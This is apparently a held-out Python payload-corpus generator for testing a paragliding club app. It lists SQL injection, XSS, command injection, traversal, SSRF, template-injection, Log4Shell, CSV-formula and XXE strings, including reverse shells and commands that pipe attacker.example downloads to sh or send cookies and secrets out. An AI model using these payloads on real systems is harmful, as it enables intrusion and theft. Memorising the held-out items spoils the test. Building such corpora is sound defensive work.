#!/usr/bin/env python3
"""Attack corpus generator for the paragliding school/club app (held out)."""
import json
import os
import random

SEED = 25702

SQLI = [
    ("union", "Annecy' UNION SELECT pilot_id, email, password_hash FROM pilots-- -"),
    ("union", "Mam Tor' union all select null,username,pass_hash,null from users#"),
    ("union", "ozone rush 6%' UNION SELECT 1,group_concat(email SEPARATOR 0x3a),3 FROM members-- "),
    ("union", "-1 UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()--"),
    ("union", "tandem') UNION SELECT card_last4, voucher_code FROM tandem_payments--"),
    ("union", "0 union/**/select/**/igc_path,pilot_id/**/from/**/flights--"),
    ("union", "Bassano\" UNION SELECT name, sql FROM sqlite_master--"),
    ("union", "x' UnIoN SeLeCt @@version,user(),database()-- -"),
    ("union", "1 UNION ALL SELECT string_agg(usename||':'||passwd, ','), NULL FROM pg_shadow--"),
    ("union", "EN-B')) UNION SELECT login, pwd FROM admin_users WHERE ('a'='a"),
    ("union", "Ager%' UNION SELECT TOP 1 name, password_hash FROM dbo.pilots--"),
    ("union", "harness' union select 1,load_file('/etc/passwd'),3-- -"),
    ("boolean", "Bradwell' OR '1'='1"),
    ("boolean", "kim' OR 1=1-- "),
    ("boolean", "reserve repack' or 'x'='x' --"),
    ("boolean", "1 OR 2>1"),
    ("boolean", "Mentor 7' AND 1=1 AND 'a'='a"),
    ("boolean", "o'brien' OR 'a' LIKE 'a"),
    ("boolean", "9999 or true"),
    ("boolean", "tandem' || '1'='1"),
    ("boolean", "P3' AND SUBSTRING((SELECT password_hash FROM pilots WHERE id=1),1,1)='$"),
    ("boolean", "1' AND ASCII(SUBSTR((SELECT email FROM members LIMIT 1),1,1))>109-- -"),
    ("boolean", "Hay Bluff' AND (SELECT COUNT(*) FROM instructors)>3 AND '1'='1"),
    ("boolean", "admin'/**/OR/**/1=1#"),
    ("boolean", "x'||(select case when (1=1) then 'a' else 'b' end)||'"),
    ("time", "Babadağ' AND SLEEP(6)-- -"),
    ("time", "1; SELECT pg_sleep(7)--"),
    ("time", "Organya'; WAITFOR DELAY '0:0:8'--"),
    ("time", "1 AND (SELECT 5781 FROM (SELECT(SLEEP(5)))xYz)"),
    ("time", "ridge' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- "),
    ("time", "kim' || pg_sleep(10) || '"),
    ("time", "1 AND 3=(SELECT 3 FROM PG_SLEEP(5))"),
    ("time", "sunset slot') AND BENCHMARK(9000000,SHA1('x'))-- -"),
    ("time", "x' AND 1=(SELECT 1 FROM dual WHERE DBMS_PIPE.RECEIVE_MESSAGE('q',6)=1)--"),
    ("time", "Tegelberg' and randomblob(300000000)-- "),
    ("stacked", "2024-05-18'; DROP TABLE flights;--"),
    ("stacked", "Gift voucher GV-2024'; UPDATE vouchers SET value=9999 WHERE code='GV-2024-0815';--"),
    ("stacked", "x'; INSERT INTO instructors(pilot_id,role) VALUES (77,'chief');--"),
    ("stacked", "1; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "Mam Tor'; DELETE FROM bookings WHERE 1=1; --"),
    ("stacked", "kev'; ALTER TABLE pilots ADD is_admin INT DEFAULT 1;--"),
    ("stacked", "1'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("stacked", "Annecy'; GRANT ALL PRIVILEGES ON *.* TO 'glide'@'%';#"),
    ("error", "x' AND extractvalue(1,concat(0x7e,(SELECT password_hash FROM pilots LIMIT 1)))-- -"),
    ("error", "1' AND updatexml(null,concat(0x3a,version()),null)-- "),
    ("error", "Ager' AND 1=CONVERT(int,(SELECT TOP 1 email FROM members))--"),
    ("error", "1 AND CAST((SELECT string_agg(email,',') FROM pilots) AS int)=1"),
    ("error", "P2' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("error", "'||(SELECT CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE rownum=1)) FROM dual)||'"),
    ("orderby", "date desc, (SELECT CASE WHEN (SELECT substr(password_hash,1,1) FROM pilots WHERE id=1)='a' THEN distance_km ELSE duration_s END)"),
    ("orderby", "distance_km ASC LIMIT 1 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,version())),1)"),
    ("orderby", "IF(1=1,max_alt,pilot)"),
    ("orderby", "3-- "),
    ("orderby", "duration_s,(select sleep(3))"),
    ("comment-evasion", "Annecy'/*!50000UNION*//*!50000SELECT*/email,pass_hash/**/FROM/**/pilots-- -"),
    ("comment-evasion", "1'/**/aNd/**/1=0/**/UnIoN/**/sElEcT/**/1,2,3#"),
    ("comment-evasion", "x'%0Aunion%0Aselect%0Aemail,2%0Afrom%0Amembers--%0A"),
    ("comment-evasion", "ridge'\tor\t'1'\t=\t'1"),
    ("comment-evasion", "1'\nUNION\nSELECT\nlogin,pwd\nFROM\nadmin_users--"),
    ("comment-evasion", "tandem'/*foo*/OR/*bar*/'x'/*baz*/='x"),
    ("comment-evasion", "' uNiOn(sElEcT(email),(pass_hash)fRoM(pilots))-- -"),
    ("comment-evasion", "1 %55NION %53ELECT pilot_id, email FROM pilots"),
    ("double-urlencode", "Mam%2527%2520OR%25201%253D1--%2520"),
    ("fullwidth", "Annecy＇ ＯＲ ＇１＇＝＇１"),
    ("unicode-escape", "Bassano\\u0027 UNION SELECT email,pass_hash FROM pilots--"),
    ("hex-literal", "x' UNION SELECT 0x61646d696e, 0x70617373-- -"),
    ("char-concat", "1 UNION SELECT CHAR(114,111,111,116),CHAR(112,119)-- "),
    ("second-order", "Sam O'Connor'); UPDATE pilots SET rating='P5' WHERE name LIKE 'Sam%'; --"),
    ("insert-values", "Great flight!', (SELECT password_hash FROM pilots WHERE id=1)); --"),
    ("csv-import", "2024-05-18;Ager';DROP TABLE flights;--;3:12;61.2"),
    ("like-wildcard", "%' AND email LIKE '%@%' UNION SELECT email,1 FROM members WHERE '%'='"),
    ("json-sqli", "{\"site\": \"Annecy' OR 1=1 -- \", \"limit\": 10}"),
    ("oob", "x'; SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password_hash FROM pilots LIMIT 1),'.attacker.example\\\\a'))-- -"),
]

XSS = [
    ("script-tag", "Great day at Mam Tor!<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "<script src=//attacker.example/hook.js></script>"),
    ("script-tag", "Landed OK <SCRIPT>new Image().src='//203.0.113.9/l?c='+encodeURIComponent(document.cookie)</SCRIPT>"),
    ("script-tag", "<script>/*flight*/alert(document.domain)//</script>"),
    ("script-tag", "</textarea><script>location='https://attacker.example/?s='+localStorage.token</script>"),
    ("script-tag", "</title><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("event-handler", "<img src=x onerror=alert(document.cookie)>"),
    ("event-handler", "Photo from launch <img src=\"/nope.jpg\" onerror=\"fetch('//attacker.example/'+document.cookie)\">"),
    ("event-handler", "<svg onload=confirm`1`>"),
    ("event-handler", "<svg/onload=location=`//attacker.example/?`+document.cookie>"),
    ("event-handler", "<body onpageshow=alert(1)>"),
    ("event-handler", "<details open ontoggle=alert(origin)>"),
    ("event-handler", "<input autofocus onfocus=alert(1) value='Bradwell'>"),
    ("event-handler", "<video><source onerror=\"alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=alert(1)>Launch open!</marquee>"),
    ("event-handler", "<div style=\"width:1000px;height:1000px\" onmouseover=\"fetch('//attacker.example/m')\">weather</div>"),
    ("event-handler", "<audio src onerror=import('//attacker.example/x.js')>"),
    ("event-handler", "<iMg SrC=1 oNeRrOr=prompt(1)>"),
    ("event-handler", "<img src=1 onerror\n=\nalert(1)>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<form><button formaction=javascript:alert(1)>Book tandem</button></form>"),
    ("attr-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attr-breakout", "Mam Tor\" autofocus onfocus=\"fetch('//attacker.example/'+document.cookie)"),
    ("attr-breakout", "' onclick='alert(document.cookie)' data-x='"),
    ("attr-breakout", "x\"><img src=x onerror=alert(1)>"),
    ("attr-breakout", "'><svg onload=alert(1)>"),
    ("attr-breakout", "Annecy\" style=\"position:fixed;inset:0\" onmouseenter=\"alert(1)"),
    ("js-uri", "javascript:alert(document.cookie)"),
    ("js-uri", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("js-uri", "java\tscript:alert(1)"),
    ("js-uri", "<a href=\"javascript&#58;alert(1)\">my XC track</a>"),
    ("js-uri", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">track</a>"),
    ("js-uri", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("js-uri", "[my flight](javascript:alert(document.cookie))"),
    ("js-uri", "[photo](javascript&#x3a;fetch('//attacker.example'))"),
    ("data-uri", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("data-uri", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("data-uri", "<embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/?'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "${alert(document.domain)}"),
    ("js-context", "Kim\\';alert(1);//"),
    ("js-context", "-alert(1)-"),
    ("js-context", "');}catch(e){};fetch('//attacker.example/x');//"),
    ("entity-encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("entity-encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("entity-encoded", "<img src=x onerror=\"&#x61;lert&#x28;document.cookie&#x29;\">"),
    ("entity-encoded", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("url-encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("url-encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("unicode-escape", "<svg onload=\\u0061lert(1)>"),
    ("fullwidth", "＜script＞alert(1)＜/script＞"),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("svg", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">track</text></a></svg>"),
    ("svg", "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\"/></svg>"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("css", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("css", "<div style=\"background:url(javascript:alert(1))\">Windy</div>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("base-tag", "<base href=\"https://attacker.example/\">"),
    ("template-injection", "{{constructor.constructor('alert(1)')()}}"),
    ("dom-clobber", "<form id=config><input name=apiBase value=https://attacker.example></form>"),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    ("markdown", "![wing](x\" onerror=\"alert(1))"),
]
XSS_PREFIX = ["Great thermal day! ", "Wind SW 12 km/h ", "Booking for 2 adults ", "IPPI 4 pilot ", "Reserve repacked "]
XSS_POOL = ["<img src=x onerror=fetch('//attacker.example/'+document.cookie)>",
            "<svg/onload=alert(document.domain)>",
            "<script>document.location='//attacker.example/?c='+document.cookie</script>",
            "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
            "<a href=javascript:alert(1)>details</a>"]

CMDI = [
    ("semicolon", "flight_2024-05-18.igc; cat /etc/passwd"),
    ("semicolon", "Mam Tor;id"),
    ("semicolon", "track.igc; curl -s http://attacker.example/s.sh | sh"),
    ("semicolon", "ager.kml;rm -rf /var/www/uploads/igc"),
    ("semicolon", "1024; nc 203.0.113.7 4444 -e /bin/sh"),
    ("semicolon", "pilot.csv ; wget -qO- http://198.51.100.23/x | bash"),
    ("and-or", "tegelberg.igc && whoami"),
    ("and-or", "x || uname -a"),
    ("and-or", "export.gpx && cat /app/config/.env"),
    ("and-or", "nonexistent.igc || curl http://attacker.example/$(hostname)"),
    ("and-or", "46.68,7.86 && ping -c 5 203.0.113.5"),
    ("pipe", "flight.igc | nc attacker.example 9001"),
    ("pipe", "track | cat /etc/shadow"),
    ("pipe", "report.pdf|id"),
    ("pipe", "2024.igc | base64 /root/.ssh/id_rsa | curl -d @- http://attacker.example/k"),
    ("subshell", "$(id)"),
    ("subshell", "Bassano_$(whoami).igc"),
    ("subshell", "`id`"),
    ("subshell", "flight`uname -a`.igc"),
    ("subshell", "track-$(curl -s attacker.example/p|sh).kml"),
    ("subshell", "Annecy $(sleep 9)"),
    ("subshell", "x$(cat${IFS}/etc/passwd)"),
    ("subshell", "$(printf '\\x69\\x64')"),
    ("newline", "flight.igc\nid"),
    ("newline", "ager.igc%0aid%0a"),
    ("newline", "track.kml\r\ncurl http://attacker.example/n"),
    ("newline", "pilot%0Dwhoami"),
    ("ifs-evasion", "x;cat${IFS}/etc/passwd"),
    ("ifs-evasion", ";cat$IFS$9/etc/hosts"),
    ("ifs-evasion", "a;{cat,/etc/passwd}"),
    ("ifs-evasion", "igc;IFS=,;c=cat,/etc/shadow;$c"),
    ("quote-evasion", "x;w'h'o'a'm'i"),
    ("quote-evasion", "a;c\"a\"t /e\"t\"c/pa\"ss\"wd"),
    ("quote-evasion", "b;\\c\\a\\t /etc/passwd"),
    ("quote-evasion", "q;/???/c?t /e??/p?ss??"),
    ("quote-evasion", "z;/bin/ca[t] /et[c]/passw[d]"),
    ("var-evasion", "k;a=c;b=at;$a$b /etc/passwd"),
    ("var-evasion", "x;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)"),
    ("var-evasion", "t;${PATH:0:1}bin${PATH:0:1}id"),
    ("var-evasion", "u;echo aWQ= | base64 -d | sh"),
    ("reverse-shell", "x; bash -i >& /dev/tcp/203.0.113.44/443 0>&1"),
    ("reverse-shell", "wing.igc; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.8\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("reverse-shell", "a; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.12 8080 >/tmp/f"),
    ("reverse-shell", "b && perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.7\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'"),
    ("reverse-shell", "x;php -r '$s=fsockopen(\"attacker.example\",4433);exec(\"sh <&3 >&3 2>&3\");'"),
    ("blind-time", "track.igc; sleep 12"),
    ("blind-time", "x|ping -n 10 127.0.0.1"),
    ("blind-time", "report && timeout 15 sleep 15"),
    ("oob-dns", "kml;nslookup $(whoami).attacker.example"),
    ("oob-dns", "x;dig +short `hostname`.x.attacker.example"),
    ("windows", "flight.igc & type C:\\Windows\\win.ini"),
    ("windows", "x | powershell -nop -c \"iwr http://attacker.example/p.ps1 | iex\""),
    ("windows", "export.csv & net user hacker P@ss1 /add"),
    ("windows", "x&&certutil -urlcache -split -f http://198.51.100.4/a.exe %TEMP%\\a.exe"),
    ("windows", "a|cmd /c dir C:\\Users"),
    ("argument-injection", "--output=/var/www/html/shell.php"),
    ("argument-injection", "-oProxyCommand=curl attacker.example/x|sh"),
    ("argument-injection", "--exec=id flight.igc"),
    ("argument-injection", "-X POST -d @/etc/passwd http://attacker.example/"),
    ("argument-injection", "track.igc --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("redirection", "flight.igc > /var/www/html/x.php"),
    ("redirection", "x; echo '<?php system($_GET[c]); ?>' > /srv/app/public/c.php"),
    ("redirection", "a; echo 'ssh-ed25519 AAAAC3Nz attacker' >> ~/.ssh/authorized_keys"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.png\"|id\")'\npop graphic-context"),
]
CMDI_PREFIX = ["ager_2024-05-18.igc", "Mam_Tor_evening.kml", "club_members.csv", "tandem-0815.gpx"]
CMDI_POOL = [";cat /etc/passwd", " && id", " | curl -d @/etc/hosts http://attacker.example/", "$(wget -qO- 198.51.100.9/r|sh)", "`sleep 8`", "%0aid"]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "../../../app/config/database.yml"),
    ("dotdot", "flights/2024/../../../../../etc/shadow"),
    ("dotdot", "igc/../../../../proc/self/environ"),
    ("dotdot", "../../../../../../root/.ssh/id_rsa"),
    ("dotdot", "photos/../../.env"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("dotdot", "tracks/kim/../../../../../home/app/.aws/credentials"),
    ("dotdot", "../../../../proc/self/cmdline"),
    ("dotdot", "../.git/config"),
    ("windows", "..\\..\\..\\..\\Windows\\win.ini"),
    ("windows", "igc\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows", "..\\..\\..\\boot.ini"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/environ"),
    ("absolute", "file:///etc/shadow"),
    ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("double-urlencode", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("double-urlencode", "..%252f..%252f..%252fapp%252f.env"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong-utf8", "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afshadow"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("percent-u", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("percent-u", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("fullwidth", "．．／．．／．．／etc／passwd"),
    ("nested", "....//....//....//etc/passwd"),
    ("nested", "..././..././..././etc/passwd"),
    ("nested", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("nested", "..;/..;/..;/WEB-INF/web.xml"),
    ("null-byte", "../../../../etc/passwd%00.igc"),
    ("null-byte", "../../../etc/shadow\\u0000.kml"),
    ("null-byte", "../../config/secrets.yml%00.png"),
    ("zip-slip", "../../../../var/www/html/shell.php"),
    ("zip-slip", "tracks/../../../../../etc/cron.d/glide"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config/db.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/track.zip#shell.php"),
    ("wrapper", "phar://uploads/avatars/kim.jpg/x"),
    ("wrapper", "expect://id"),
    ("mixed-slash", "..\\/..\\/..\\/etc/passwd"),
    ("mixed-slash", "/static/..%5c..%5c..%5cetc/passwd"),
    ("case-mixed", "..%2F..%2f..%2F..%2fEtC/PaSsWd"),
]

SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "https://127.0.0.1:9200/_cat/indices"),
    ("loopback", "http://[::1]:2375/containers/json"),
    ("loopback", "http://0.0.0.0:5000/debug/console"),
    ("loopback", "http://127.1/admin/pilots/export"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001:8080/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/user-data"),
    ("alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:7f00:1]:8500/v1/agent/self"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
    ("alt-ip", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("internal-host", "http://10.0.0.12:8500/v1/kv/?recurse"),
    ("internal-host", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal-host", "http://172.17.0.1:2375/images/json"),
    ("internal-host", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal-host", "http://redis:6379/"),
    ("internal-host", "http://elasticsearch.internal:9200/_search?q=*"),
    ("internal-host", "http://10.10.3.4:8080/actuator/env"),
    ("userinfo-confusion", "https://weather.example.org@127.0.0.1/admin"),
    ("userinfo-confusion", "http://api.windy.com@169.254.169.254/latest/meta-data/"),
    ("userinfo-confusion", "http://127.0.0.1#@tiles.example.org/"),
    ("userinfo-confusion", "http://127.0.0.1%2523@xcontest.org/"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ASAVE%0D%0A"),
    ("scheme", "dict://localhost:11211/stats"),
    ("scheme", "file:///etc/passwd"),
    ("scheme", "ftp://10.0.0.5/backup/pilots.sql"),
    ("scheme", "ldap://127.0.0.1:389/dc=club,dc=local"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("dns-rebind", "http://7f000001.a9fea9fe.rbndr.attacker.example/"),
    ("dns-rebind", "http://localtest.attacker.example:8080/admin"),
    ("webhook", "webhook_url=http://127.0.0.1:8080/internal/reset"),
    ("webhook", "weather.source=http://169.254.169.254/latest/meta-data/?lat=46.6&lon=7.9"),
    ("webhook", "map_tiles=http://10.0.0.7:8080/{z}/{x}/{y}.png"),
]
SSRF_PREFIX = ["avatar_url=", "igc_import_url=", "gallery photo: ", "track link: "]
SSRF_POOL = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:2379/v2/keys/", "http://0x7f.0.0.1:8080/manage", "http://[::]:22/"]

CODE = [
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "Hi {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"),
    ("ssti-jinja", "Your tandem on {{ namespace.__init__.__globals__.os.environ }} is confirmed"),
    ("ssti-jinja", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$r.exec(\"id\")"),
    ("ssti-velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('whoami')"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= system('cat /etc/passwd') %>"),
    ("ssti-erb", "Dear <%= File.read('/app/config/master.key') %>,"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind this \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-mako", "<% import os; x=os.popen('whoami').read() %>${x}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("el-spring", "#{T(java.lang.System).getenv()}"),
    ("el-spring", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-jsp", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("el-jsp", "${applicationScope}"),
    ("el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-ognl", "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("el-mvel", "Runtime.getRuntime().exec(\"touch /tmp/pg\")"),
    ("eval-js", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("eval-js", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-js", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("eval-js", "');require('child_process').spawnSync('sh',['-c','id']);//"),
    ("eval-js", "global.process.binding('spawn_sync')"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval-python", "().__class__.__bases__[0].__subclasses__()"),
    ("eval-python", "open('/etc/passwd').read()"),
    ("eval-php", "<?php system($_GET['c']); ?>"),
    ("eval-php", "<?= `id` ?>"),
    ("eval-php", "${@eval(base64_decode($_POST['x']))}"),
    ("eval-php", "phpinfo();"),
    ("eval-ruby", "Kernel.exec('id')"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell", "Mam Tor ${jndi:rmi://203.0.113.50/Exploit}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.3/o}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${j${k8s:k5:-ND}i:ldap://attacker.example/k}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell", "${jndi:ldaps://attacker.example/${sys:java.version}}"),
    ("prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("prototype-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"chief_instructor\"}}}"),
    ("prototype-pollution", "__proto__[isAdmin]=true"),
    ("prototype-pollution", "constructor.prototype.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');//"),
    ("prototype-pollution", "{\"units\": \"metric\", \"__proto__\": {\"shell\": \"/proc/self/exe\", \"NODE_OPTIONS\": \"--require /proc/self/environ\"}}"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for track\")"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell -nop -c iwr attacker.example/p|iex'!A1"),
    ("csv-formula", "-2+3+cmd|'/c notepad'!Z9"),
    ("csv-formula", "@SUM(1,1)*cmd|'/C calc'!A1"),
    ("csv-formula", "Kim,P3,=WEBSERVICE(\"http://attacker.example/?\"&A1)"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",B2:B99),\"//a\")"),
    ("csv-formula", "DDE(\"cmd\";\"/C calc\";\"!A0\")A0"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><gpx><trk><name>&x;</name></trk></gpx>"),
    ("xxe", "<!DOCTYPE kml [<!ENTITY % r SYSTEM \"http://attacker.example/e.dtd\"> %r;]><kml/>"),
